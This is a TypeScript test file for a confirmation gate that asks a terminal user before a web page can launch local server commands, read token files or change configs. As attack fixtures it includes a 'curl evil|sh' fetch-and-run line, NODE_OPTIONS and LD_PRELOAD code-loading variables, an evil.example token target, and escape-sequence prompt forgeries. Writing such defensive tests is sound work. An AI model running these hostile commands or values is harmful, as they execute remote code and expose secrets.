import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test, vi } from 'vitest';
import type { UrlLaunch } from '@/lib/hub/url-launch';
import type { StdioTarget, UrlTarget } from '@/lib/wire/command';
import { CommandConfirmation } from './command-confirmation';
import { type CompletePreset, resolveLaunch, type StdioLaunch } from './launch';
import { openHub } from './test-hub';

const GIVEN: CompletePreset = {
  shown: {
    id: 'command-line',
    origin: 'command-line',
    source: 'command line',
    target: { transport: 'stdio', command: 'node', args: ['server.js'], cwd: '/work' },
    envNames: [],
    policy: 'shell',
    placeholders: [],
    protocol: 'auto',
  },
  env: {},
};

/** The same server in the list of the page, which a page can change. */
const KEPT: CompletePreset = { ...GIVEN, shown: { ...GIVEN.shown, id: 'kept-1', origin: 'kept' } };

const typed = (more: Partial<StdioTarget> = {}): StdioTarget => ({
  transport: 'stdio',
  command: 'node',
  args: ['other.js'],
  cwd: '/work',
  ...more,
});

function confirmation(answer: boolean | (() => Promise<boolean>) = true) {
  const ask = vi.fn<(question: string) => Promise<boolean>>(typeof answer === 'function' ? answer : async () => answer);
  const waiting: number[] = [];
  const confirming = new CommandConfirmation({ given: [GIVEN], ask, onWaiting: (commands) => waiting.push(commands) });
  const confirm = (target: StdioTarget) =>
    confirming.confirm(resolveLaunch(target, 'auto', [GIVEN, KEPT]) as StdioLaunch, target);
  const questions = (): string[] => ask.mock.calls.map(([question]) => question);
  return { confirm, confirming, ask, waiting, questions };
}

test.each([true, false])(
  'key and token files for a URL are asked about once, whatever the answer: %j',
  async (answer) => {
    const { confirming, questions } = confirmation(answer);
    const client = { grant: 'workload', tokenFile: '/run/token' } as const;
    const target: UrlTarget = { transport: 'http', url: 'https://evil.example/mcp', client };
    const launch = resolveLaunch(target, 'auto', []) as UrlLaunch;
    for (let time = 0; time < 2; time++) {
      const outcome = confirming.confirmSecretFiles(launch, target).then(
        () => true,
        ({ code }) => code,
      );
      expect(await outcome).toBe(answer || 'not-confirmed');
    }
    expect(questions()).toEqual([expect.stringMatching(/'?\/run\/token'? at the server:\n {2}'?https:\/\/evil/)]);
    await confirming.confirmSecretFiles({ ...launch, client: {} }, target);
    expect(questions()).toHaveLength(1);
  },
);

describe('a file', () => {
  test.each([true, false])('that a page writes is asked about once, whatever the answer: %j', async (answer) => {
    const { confirming, questions } = confirmation(answer);
    for (let time = 0; time < 2; time++) {
      const outcome = confirming.confirmFile('/work/a\u202ejson').then(
        () => true,
        ({ code }) => code,
      );
      expect(await outcome).toBe(answer || 'not-confirmed');
    }
    expect(questions()).toEqual([expect.stringContaining('/work/a\\u{202e}json')]);
  });
});

test.each([true, false])('a change of a host’s config is asked about once, whatever the answer: %j', async (answer) => {
  const { confirming, questions } = confirmation(answer);
  for (let time = 0; time < 2; time++) {
    const outcome = confirming.confirmConfig('/work/a b', 'x\u202ey\n', 'untap', 'digest').then(
      () => true,
      ({ message }) => message,
    );
    expect(await outcome).toEqual(answer || expect.stringMatching(/^Changing the config was refused/));
  }
  expect(questions()).toEqual([
    expect.stringMatching(
      /asks to untap the server 'x\\u\{202e\}y\\u\{a\}', so that its host starts it without mcp-inspect, in this config:\n {2}'\/work\/a b'/,
    ),
  ]);
});

test('re-run on save is asked for once, with the program that each save restarts', async () => {
  const { confirming, questions } = confirmation();
  const launch = resolveLaunch(typed({ args: ['a b.js'] }), 'auto', []);
  await confirming.confirmWatch(launch);
  await confirming.confirmWatch(launch);
  expect(questions()).toEqual([
    expect.stringMatching(/watch source files.*\n {2}node 'a b\.js'\nin \/work\nAllow it\?/s),
  ]);
  await expect(confirmation(false).confirming.confirmWatch(launch)).rejects.toMatchObject({ code: 'not-confirmed' });
});

describe('a command', () => {
  test('of the terminal starts without a question, also when it is connected again', async () => {
    const { confirm, ask } = confirmation(false);
    await confirm({ ...(GIVEN.shown.target as StdioTarget), base: 'command-line' });
    await confirm(GIVEN.shown.target as StdioTarget);
    expect(ask).not.toHaveBeenCalled();
  });

  test.each<[string, Partial<StdioTarget>]>([
    ['other arguments', { args: ['server.js', '--evil'] }],
    ['another command', { command: 'sh' }],
    ['another directory', { cwd: '/tmp' }],
    ['a variable', { env: { NODE_OPTIONS: '--require=./evil.js' } }],
    ['a variable less', { env: { HOME: null } }],
    ['another base', { base: 'kept-1' }],
  ])('attack: of the terminal, but with %s, needs an answer', async (_name, change) => {
    const { confirm, ask } = confirmation(false);
    const target = { ...(GIVEN.shown.target as StdioTarget), base: 'command-line', ...change };
    await expect(confirm(target)).rejects.toMatchObject({ code: 'not-confirmed' });
    expect(ask).toHaveBeenCalledOnce();
  });

  test.each([true, false])('is asked about once, whatever the answer: %j', async (answer) => {
    const { confirm, ask } = confirmation(answer);
    for (let time = 0; time < 3; time++) {
      const outcome = confirm(typed()).then(
        () => true,
        ({ code }) => code,
      );
      expect(await outcome).toBe(answer || 'not-confirmed');
    }
    expect(ask).toHaveBeenCalledOnce();
  });

  test('is asked about again with other arguments or values of variables', async () => {
    const { confirm, ask } = confirmation();
    await confirm(typed());
    await confirm(typed({ args: ['third.js'] }));
    await confirm(typed({ env: { A: '1' } }));
    await confirm(typed({ env: { A: '2' } }));
    expect(ask).toHaveBeenCalledTimes(4);
  });

  test('is shown whole, with variables that run code, and nothing can forge the question', async () => {
    const { confirm, questions } = confirmation();
    const args = ['-e', 'token="$(curl evil|sh)"', 'x\nStart it? [y/N] y\u202e\u001b[2K'];
    await confirm(typed({ command: 'sh', args, env: { LD_PRELOAD: './x.so', API_KEY: 'sesame' } }));
    expect(questions()).toEqual([
      `A page asks to start this program:
  sh -e 'token="$(curl evil|sh)"' 'x\\u{a}Start it? [y/N] y\\u{202e}\\u{1b}[2K'
in /work
with LD_PRELOAD=./x.so (it can run code), API_KEY
Start it? [y/N] `,
    ]);
  });

  test('that is too long to read is refused', async () => {
    const { confirm, ask } = confirmation();
    const refused = confirm(typed({ args: ['x'.repeat(5000)] }));
    await expect(refused).rejects.toMatchObject({ code: 'too-long-to-confirm' });
    expect(ask).not.toHaveBeenCalled();
  });

  test('waits, which the page sees; only a few may wait', async () => {
    const answers: ((yes: boolean) => void)[] = [];
    const { confirm, waiting } = confirmation(() => new Promise((resolve) => answers.push(resolve)));
    const all = ['1', '2', '3'].map((arg) => confirm(typed({ args: [arg] })));
    const same = confirm(typed({ args: ['1'] }));
    await expect(confirm(typed({ args: ['4'] }))).rejects.toMatchObject({ code: 'too-many-to-confirm' });
    expect(waiting).toEqual([1, 2, 3]);
    for (const answer of answers) answer(true);
    await Promise.all([...all, same]);
    expect(waiting).toEqual([1, 2, 3, 2, 1, 0]);
  });
});

describe('attack: a script in the page that has the token', () => {
  async function runs(ask: ((question: string) => Promise<boolean>) | undefined, confirms = true) {
    const folder = mkdtempSync(join(tmpdir(), 'confirm-'));
    const canary = join(folder, 'canary');
    const confirming = new CommandConfirmation({
      given: [],
      ask,
      onWaiting: (commands) => hub.hub.showConfirming(commands),
    });
    const hub = await openHub(undefined, undefined, undefined, undefined, undefined, confirms ? confirming : undefined);
    onTestFinished(async () => {
      await hub.close();
      rmSync(folder, { recursive: true });
    });
    const tab = await hub.tab();
    const target = { transport: 'stdio', command: '/bin/sh', args: ['-c', 'touch "$0"', canary] };
    const answer = await tab.ask({ type: 'connect', target, protocol: '2025-11-25' });
    if (answer.type === 'done') await vi.waitUntil(() => hub.hub.get(answer.connection).summary.state === 'failed');
    const shown = tab.events.flatMap((event) => (event.type === 'confirming' ? [event.commands] : []));
    return { answer, started: existsSync(canary), shown, connections: hub.hub.connections() };
  }

  test.skipIf(process.platform === 'win32').each([
    ['n is answered', 'not-confirmed', async () => false],
    ['there is no terminal', 'no-terminal', undefined],
  ])('starts nothing if %s, and the page gets the reason', async (_name, code, ask) => {
    const { answer, started, connections } = await runs(ask);
    expect(answer).toMatchObject({ type: 'error', code });
    expect(started).toBe(false);
    expect(connections).toEqual([]);
  });

  test.skipIf(process.platform === 'win32')(
    'starts its command after y; meanwhile the page sees why it waits',
    async () => {
      expect(await runs(async () => true)).toMatchObject({ answer: { type: 'done' }, started: true, shown: [1, 0] });
    },
  );

  test.skipIf(process.platform === 'win32')('control: starts it at once without --page confirm-commands', async () => {
    expect(await runs(undefined, false)).toMatchObject({ answer: { type: 'done' }, started: true, shown: [] });
  });
});
